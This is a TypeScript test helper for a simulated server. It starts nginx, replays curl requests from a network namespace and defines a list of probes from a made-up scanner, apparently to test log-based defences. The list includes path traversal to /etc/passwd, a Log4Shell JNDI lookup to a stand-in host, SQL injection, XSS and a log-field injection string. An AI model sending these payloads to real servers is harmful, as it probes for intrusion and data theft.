import { SERVER, type Server } from "./server.ts";
import { until } from "./world.ts";

/** Starts nginx with a small site and Debian's logs. Its workers run as `user`. */
export async function startNginx(server: Server, user = "www-data"): Promise<void> {
  await server.world.sh("sed", "--in-place", `s/^user .*/user ${user};/`, "/etc/nginx/world.conf");
  await server.world.sh("install", "-d", "-m", "755", "-g", "adm", "/var/log/nginx");
  for (const log of ["access.log", "error.log"]) {
    await server.world.sh(
      "install",
      "-m",
      "640",
      "-o",
      "www-data",
      "-g",
      "adm",
      "/dev/null",
      `/var/log/nginx/${log}`,
    );
  }
  await server.world.sh("mkdir", "-p", "/srv/www");
  await server.world.write("/srv/www/index.html", "<h1>Welcome</h1>\n");
  server.world.spawn("/usr/sbin/nginx", "-c", "/etc/nginx/world.conf");
  await until("nginx", async () => {
    const { code } = await server.world.run(["bash", "-c", ": < /dev/tcp/127.0.0.1/80"]);
    return code === 0 ? true : undefined;
  });
}

/** A client's request. */
export interface Request {
  /** Path and query as sent. */
  readonly target: string;
  /** `user:password` of Basic authentication. */
  readonly login?: string;
  readonly agent?: string;
}

/**
 * Sends requests one by one from the address `from`, until one gets no answer within five seconds.
 * Returns the number of answers.
 */
export async function browse(server: Server, from: string, requests: readonly Request[]): Promise<number> {
  const host = from.includes(":") ? `[${SERVER.ipv6}]` : SERVER.ipv4;
  const config = requests.map(({ target, login, agent = "Mozilla/5.0" }) =>
    [
      `url = "http://${host}${escaped(target)}"`,
      `user-agent = "${escaped(agent)}"`,
      ...(login === undefined ? [] : [`user = "${escaped(login)}"`]),
      `interface = "${from}"`,
      'header = "X-Forwarded-For: 192.0.2.99"',
      'write-out = "%{http_code}\\n"',
      'output = "/dev/null"',
      "path-as-is",
      "globoff",
      "silent",
      "max-time = 5",
      "no-keepalive",
    ].join("\n")
  ).join("\nnext\n");
  const curl = ["ip", "netns", "exec", "outside", "curl", "--fail-early", "--config", "-"];
  const { stdout } = await server.world.run(curl, config);
  return stdout.split("\n").filter((code) => /^[1-9]/.test(code)).length;
}

function escaped(text: string): string {
  return text.replace(/[\\"]/g, "\\$&");
}

/** Paths of a made-up scanner. */
export const SCAN: readonly string[] = [
  "/.env",
  "/.git/config",
  "/phpmyadmin/index.php",
  "/pma/",
  "/wp-login.php",
  "/wp-content/plugins/old/x.php",
  "/cgi-bin/test.cgi",
  "/admin.php",
  "/backup.sql",
  "/config.php.bak",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/static/../../../../etc/passwd",
  "/%2e%2e/%2e%2e/etc/passwd",
  "/?x=${jndi:ldap://192.0.2.99/a}",
  "/?id=1%20union%20select%201,2",
  "/?q=%3Cscript%3Ealert(1)",
  "/manager/html",
  "/solr/admin/info/system",
  "/actuator/env",
  "/boaform/admin/formLogin",
  "/xmlrpc.php",
  "/server-status",
  "/shell.php?cmd=id, client: 192.0.2.99, server: x",
];
